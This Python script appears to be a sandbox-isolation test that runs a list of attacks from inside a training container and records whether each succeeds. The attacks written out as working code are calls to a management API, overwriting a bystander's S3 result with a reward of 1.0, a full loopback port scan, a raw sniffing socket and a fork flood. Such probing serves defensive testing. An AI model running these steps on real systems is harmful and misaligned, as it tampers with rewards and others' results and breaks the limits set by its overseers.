"""Every attack of issue 9, each recorded as what happened (never raises)."""

import json
import os
import socket
import time
import urllib.request

targets = json.load(open("/solution/targets.json"))
out = {}


def http(method, url, body=None, headers=None):
    req = urllib.request.Request(url, data=body, method=method, headers=headers or {})
    try:
        with urllib.request.urlopen(req, timeout=3) as r:
            return f"{r.status} {r.read(200)!r}"
    except urllib.error.HTTPError as e:
        return f"HTTP {e.code}"
    except OSError as e:
        return f"error {type(e).__name__}"


host = "127.0.0.1"
mgmt, s3, vllm = targets["management_url"], targets["s3_endpoint"], targets["vllm_url"]
out["management_replicas"] = http(
    "POST", f"{mgmt}/replicas", json.dumps({"add": ["http://127.0.0.1:9"]}).encode()
)
out["management_policy"] = http("POST", f"{mgmt}/policy_version", b'{"version": 99}')
out["management_sessions"] = http("POST", f"{mgmt}/sessions", b"{}")
out["proxy_protocol"] = http("GET", f"{targets['proxy_url']}/s/x/y/v1/models")
out["s3_overwrite"] = http(
    "PUT", f"{s3}/{targets['bucket']}/{targets['bystander_result_key']}", b'{"reward": 1.0}'
)
out["s3_list"] = http("GET", f"{s3}/{targets['bucket']}?list-type=2")
out["vllm_generate"] = http("POST", f"{vllm}/v1/completions", b'{"prompt": [1, 2], "max_tokens": 4}')
t_host, t_port = targets["temporal_address"].rsplit(":", 1)
out["temporal_grpc"] = http("GET", f"http://{t_host}:{t_port}/")
out["temporal_http"] = http(
    "GET", f"http://{t_host}:{targets['temporal_http_port']}/api/v1/namespaces/default/workflows"
)

# Every loopback port in this namespace: what answers?
open_ports = []
t0 = time.monotonic()
for port in range(1, 65536):
    s = socket.socket()
    s.settimeout(0.2)
    if s.connect_ex((host, port)) == 0 and s.getsockname() != s.getpeername():  # not a self-connect
        open_ports.append(port)
    s.close()
out["open_loopback_ports"] = open_ports
out["scan_seconds"] = round(time.monotonic() - t0, 2)
out["interfaces"] = sorted(os.listdir("/sys/class/net"))

# Sniffing loopback: a raw packet socket.
try:
    socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
    out["raw_socket"] = "opened"
except OSError as e:
    out["raw_socket"] = f"error {type(e).__name__}"

# Forking past the limit.
kids, fork_error = [], None
for _ in range(1500):
    try:
        pid = os.fork()
    except OSError as e:
        fork_error = type(e).__name__
        break
    if pid == 0:
        time.sleep(30)
        os._exit(0)
    kids.append(pid)
for pid in kids:
    os.kill(pid, 9)
    os.waitpid(pid, 0)
out["forked"], out["fork_error"] = len(kids), fork_error
print(json.dumps(out))
